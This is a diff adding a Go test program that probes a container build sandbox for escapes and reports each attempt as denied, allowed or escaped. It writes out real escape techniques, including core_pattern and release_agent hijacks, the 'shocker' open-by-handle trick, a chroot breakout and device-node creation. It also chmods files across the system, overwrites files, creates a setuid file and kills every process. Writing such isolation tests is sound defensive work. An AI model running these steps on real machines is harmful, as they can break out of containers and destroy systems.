@@ -1,0 +1,288 @@
+// Command probe tries to reach and harm the machine from inside a build. It prints one line per attempt: "denied", "allowed" (by design harmless
+// in a container) or "ESCAPED".
+package main
+
+import (
+	"fmt"
+	"os"
+	"path/filepath"
+	"runtime"
+	"strings"
+	"syscall"
+	"unsafe"
+)
+
+// marker is a path on the machine that no container can see.
+var marker = os.Args[1]
+
+func say(outcome, what string, err error) {
+	fmt.Printf("probe %s: %s (%v)\n", outcome, what, err)
+}
+
+// deny reports an attempt that must fail.
+func deny(what string, err error) {
+	if err == nil {
+		say("ESCAPED", what, err)
+	} else {
+		say("denied", what, err)
+	}
+}
+
+func seen(what, path string) {
+	if _, err := os.Lstat(path); err == nil {
+		say("ESCAPED", what+" sees "+path, nil)
+	} else {
+		say("denied", what, err)
+	}
+}
+
+func errno(_, _ uintptr, e syscall.Errno) error {
+	if e == 0 {
+		return nil
+	}
+	return e
+}
+
+// number picks a system call's number; the syscall package lacks some.
+func number(amd64, arm64 uintptr) uintptr {
+	if runtime.GOARCH == "arm64" {
+		return arm64
+	}
+	return amd64
+}
+
+func main() {
+	seen("plain path", marker)
+	mounts()
+	devices()
+	settings()
+	processes()
+	handles()
+	chrootEscape()
+	userNamespace()
+	spoil()
+	killEverything()
+}
+
+func mounts() {
+	os.MkdirAll("/mnt-probe", 0o755)
+	deny("mount a tmpfs", syscall.Mount("tmpfs", "/mnt-probe", "tmpfs", 0, ""))
+	deny("bind mount", syscall.Mount("/", "/mnt-probe", "", syscall.MS_BIND, ""))
+	deny("remount /proc/sys for writing", syscall.Mount("", "/proc/sys", "", syscall.MS_REMOUNT|syscall.MS_BIND, ""))
+	deny("unmount /proc/sys", syscall.Unmount("/proc/sys", syscall.MNT_DETACH))
+	deny("unmount /", syscall.Unmount("/", syscall.MNT_DETACH))
+	deny("pivot_root", syscall.PivotRoot("/", "/mnt-probe"))
+	text, _ := os.ReadFile("/proc/self/mountinfo")
+	for _, line := range strings.Split(string(text), "\n") {
+		fields := strings.Fields(line)
+		if len(fields) > 4 && fields[4] == "/" && fields[3] == "/" {
+			say("ESCAPED", "the root is the machine's own: "+line, nil)
+		}
+	}
+}
+
+func devices() {
+	for _, device := range []struct {
+		name         string
+		mode         uint32
+		major, minor uint32
+	}{{"mem", syscall.S_IFCHR, 1, 1}, {"kmsg", syscall.S_IFCHR, 1, 11}, {"sda", syscall.S_IFBLK, 8, 0}, {"vda", syscall.S_IFBLK, 254, 0}, {"loop", syscall.S_IFBLK, 7, 0}} {
+		for _, folder := range []string{"/", "/dev/", "/dev/shm/", "/kaniko/"} {
+			deny("make device "+folder+device.name, syscall.Mknod(folder+"probe-"+device.name, device.mode|0o666, int(device.major<<8|device.minor)))
+		}
+	}
+	for _, path := range []string{"/dev/mem", "/dev/kmsg", "/dev/vda", "/dev/sda", "/dev/fuse", "/dev/kvm", "/dev/net/tun", "/dev/loop-control", "/proc/kcore"} {
+		// A masked file is an empty one.
+		file, err := os.Open(path)
+		if err == nil {
+			count, _ := file.Read(make([]byte, 16))
+			file.Close()
+			if count == 0 {
+				err = fmt.Errorf("empty")
+			}
+		}
+		deny("read "+path, err)
+	}
+}
+
+func settings() {
+	for path, text := range map[string]string{
+		"/proc/sys/kernel/core_pattern":               "|/tmp/probe",
+		"/proc/sys/vm/drop_caches":                    "1",
+		"/proc/sys/kernel/hostname":                   "probe",
+		"/proc/sys/net/ipv4/ip_forward":               "1",
+		"/proc/sysrq-trigger":                         "h",
+		"/proc/self/oom_score_adj":                    "-1000",
+		"/sys/kernel/uevent_helper":                   "/tmp/probe",
+		"/sys/fs/cgroup/memory/release_agent":         "/tmp/probe",
+		"/sys/kernel/mm/transparent_hugepage/enabled": "never",
+	} {
+		deny("write "+path, write(path, text))
+	}
+	deny("set the host name", syscall.Sethostname([]byte("probe")))
+	deny("set the time", syscall.Settimeofday(&syscall.Timeval{Sec: 1}))
+	deny("reboot", errno(syscall.RawSyscall(syscall.SYS_REBOOT, 0xfee1dead, 672274793, 0)))
+	deny("load a module", errno(syscall.RawSyscall(syscall.SYS_INIT_MODULE, 0, 0, 0)))
+	deny("read the kernel log", errno(syscall.RawSyscall(syscall.SYS_SYSLOG, 3, uintptr(unsafe.Pointer(&make([]byte, 64)[0])), 64)))
+	deny("raw socket", func() error {
+		_, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, 1)
+		return err
+	}())
+	deny("packet socket", func() error {
+		_, err := syscall.Socket(syscall.AF_PACKET, syscall.SOCK_RAW, 0)
+		return err
+	}())
+	deny("raise a limit", syscall.Setrlimit(syscall.RLIMIT_NOFILE, &syscall.Rlimit{Cur: 1 << 30, Max: 1 << 30}))
+	deny("change the priority", syscall.Setpriority(syscall.PRIO_PROCESS, 0, -10))
+}
+
+func write(path, text string) error {
+	file, err := os.OpenFile(path, os.O_WRONLY, 0)
+	if err != nil {
+		return err
+	}
+	defer file.Close()
+	_, err = file.WriteString(text)
+	return err
+}
+
+func processes() {
+	entries, _ := os.ReadDir("/proc")
+	count := 0
+	for _, entry := range entries {
+		if strings.Trim(entry.Name(), "0123456789") != "" {
+			continue
+		}
+		count++
+		for _, link := range []string{"root", "cwd"} {
+			seen("/proc/"+entry.Name()+"/"+link, filepath.Join("/proc", entry.Name(), link, marker))
+		}
+		fds, _ := os.ReadDir("/proc/" + entry.Name() + "/fd")
+		for _, fd := range fds {
+			target, _ := os.Readlink("/proc/" + entry.Name() + "/fd/" + fd.Name())
+			info, err := os.Stat("/proc/" + entry.Name() + "/fd/" + fd.Name())
+			if strings.Contains(target, "pipe:") && entry.Name() == "1" && inherited(fd.Name()) {
+				say("ESCAPED", "holds a pipe of the machine "+target, nil)
+			}
+			if err == nil && info.IsDir() && target != "/proc" && target != "/" {
+				say("open folder", "process "+entry.Name()+" holds "+target, nil)
+			}
+			seen("descriptor "+target, "/proc/"+entry.Name()+"/fd/"+fd.Name()+"/.."+marker)
+		}
+	}
+	if count > 10 {
+		say("ESCAPED", fmt.Sprint("sees ", count, " processes"), nil)
+	}
+}
+
+// inherited tells whether the container's first process got a descriptor from outside: its own are closed on exec.
+func inherited(fd string) bool {
+	text, _ := os.ReadFile("/proc/1/fdinfo/" + fd)
+	return fd > "2" && !strings.Contains(string(text), "\t02") && !strings.Contains(string(text), "0200")
+}
+
+// handles opens the file system's own root by its inode number, as the "shocker" exploit does.
+func handles() {
+	type handle struct {
+		bytes uint32
+		kind  int32
+		data  [8]byte
+	}
+	root, err := syscall.Open("/", syscall.O_RDONLY, 0)
+	if err != nil {
+		deny("open /", err)
+		return
+	}
+	wanted := handle{bytes: 8, kind: 1, data: [8]byte{2}}
+	_, _, e := syscall.Syscall(number(304, 265), uintptr(root), uintptr(unsafe.Pointer(&wanted)), syscall.O_RDONLY)
+	deny("open by handle", errno(0, 0, e))
+	// Immutable files could not be removed with the pod.
+	file, _ := os.Create("/probe-immutable")
+	flags := 0x10
+	_, _, e = syscall.Syscall(syscall.SYS_IOCTL, file.Fd(), 0x40086602, uintptr(unsafe.Pointer(&flags)))
+	deny("make a file immutable", errno(0, 0, e))
+}
+
+func chrootEscape() {
+	os.MkdirAll("/probe-chroot", 0o755)
+	here, err := os.Open("/")
+	if err == nil {
+		err = syscall.Chroot("/probe-chroot")
+	}
+	if err != nil {
+		say("denied", "chroot", err)
+		return
+	}
+	syscall.Fchdir(int(here.Fd()))
+	for range [64]int{} {
+		syscall.Chdir("..")
+	}
+	syscall.Chroot(".")
+	syscall.Chdir("/")
+	seen("after leaving a chroot", marker)
+}
+
+// userNamespace gets every capability, but only over what it makes itself.
+func userNamespace() {
+	for _, kind := range []string{"mnt", "pid", "user", "net", "cgroup"} {
+		file, err := os.Open("/proc/1/ns/" + kind)
+		if err != nil {
+			say("denied", "namespace "+kind, err)
+			continue
+		}
+		_, _, e := syscall.RawSyscall(number(308, 268), file.Fd(), 0, 0)
+		// Its own namespace once more is no gain.
+		say("allowed", "enter the container's own "+kind+" namespace", errno(0, 0, e))
+	}
+}
+
+// spoil writes, chmods and removes whatever it can reach.
+func spoil() {
+	count := 0
+	for _, top := range []string{"/sys", "/dev", "/etc", "/tmp", "/root", "/home", "/workspace", "/var", "/mnt-probe", "/proc/1"} {
+		filepath.WalkDir(top, func(path string, entry os.DirEntry, err error) error {
+			if err != nil || count > 20000 {
+				return nil
+			}
+			count++
+			os.Chmod(path, 0o777)
+			os.Lchown(path, 12345, 12345)
+			if !strings.HasPrefix(path, "/sys") && !strings.HasPrefix(path, "/proc") {
+				return nil
+			}
+			if !entry.IsDir() && strings.HasSuffix(path, "enabled") {
+				if write(path, "0") == nil {
+					say("ESCAPED", "wrote "+path, nil)
+				}
+			}
+			return nil
+		})
+	}
+	os.WriteFile("/etc/resolv.conf", []byte("spoiled"), 0o777)
+	os.WriteFile("/etc/hosts", []byte("spoiled"), 0o777)
+	os.WriteFile("/dev/termination-log", []byte("spoiled"), 0o777)
+	os.WriteFile("/kaniko/executor", []byte("spoiled"), 0o777)
+	os.Remove("/kaniko/executor")
+	os.WriteFile("/kaniko/executor", []byte("spoiled"), 0o777)
+	os.WriteFile("/set-user-id", []byte("spoiled"), 0o755)
+	os.Chmod("/set-user-id", os.ModeSetuid|0o755)
+	// Paths longer than the system takes at once: they must not keep the pod from being removed.
+	os.Chdir("/")
+	for range [40]int{} {
+		name := strings.Repeat("d", 200)
+		os.Mkdir(name, 0o755)
+		os.Chdir(name)
+	}
+	os.Chdir("/")
+	say("allowed", fmt.Sprint("spoiled ", count, " paths of the container"), nil)
+}
+
+func killEverything() {
+	say("allowed", "kills every process it can see", nil)
+	for pid := 1; pid < 70000; pid++ {
+		if pid != os.Getpid() {
+			syscall.Kill(pid, syscall.SIGKILL)
+		}
+	}
+	syscall.Kill(-1, syscall.SIGKILL)
+}
